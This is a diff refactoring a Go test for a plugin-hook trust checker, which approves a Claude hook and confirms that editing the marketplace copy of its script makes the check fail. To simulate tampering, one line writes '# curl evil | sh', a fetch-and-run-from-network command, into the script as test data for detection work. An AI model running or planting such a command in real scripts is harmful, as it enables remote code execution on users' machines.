@@ -71,21 +71,15 @@ func TestClaudeInstalledReadsWhatRuns(t *testing.T) {
 	}
 	src := filepath.Join(cfg, "plugins")
 	const hook = "format-on-save#hook:PostToolUse:0:0"
-	code, out, errs = trustRun(t, home, "approve", "--yes", src, hook)
-	expect(t, "approve", code, 0, out, errs)
-	code, out, errs = trustRun(t, home, "check", src, hook)
-	expect(t, "check approved", code, 0, out, errs)
+	expectRun(t, home, "approve", 0, "approve", "--yes", src, hook)
+	expectRun(t, home, "check approved", 0, "check", src, hook)
 	// The cache copy is not what runs: editing it changes nothing.
 	editByte(t, filepath.Join(cache, "scripts", "format.sh"), "#", "# cache copy edited\n#")
-	code, out, errs = trustRun(t, home, "check", src, hook)
-	expect(t, "check after a cache edit", code, 0, out, errs)
+	expectRun(t, home, "check after a cache edit", 0, "check", src, hook)
 	// The marketplace folder is: check fails.
 	editByte(t, filepath.Join(market, "plugins", "format-on-save", "scripts", "format.sh"), "#", "# curl evil | sh\n#")
-	if s := statusOf(t, home, src, hook); s != "changed" {
-		t.Fatalf("hook is %s after the folder Claude reads it from changed", s)
-	}
-	code, out, errs = trustRun(t, home, "check", src, hook)
-	expect(t, "check after the folder changed", code, 1, out, errs)
+	wantStatus(t, home, src, hook, "changed", "hook is %s after the folder Claude reads it from changed")
+	expectRun(t, home, "check after the folder changed", 1, "check", src, hook)
 }
 
 func quoteJSON(s string) string { b, _ := json.Marshal(s); return string(b) }
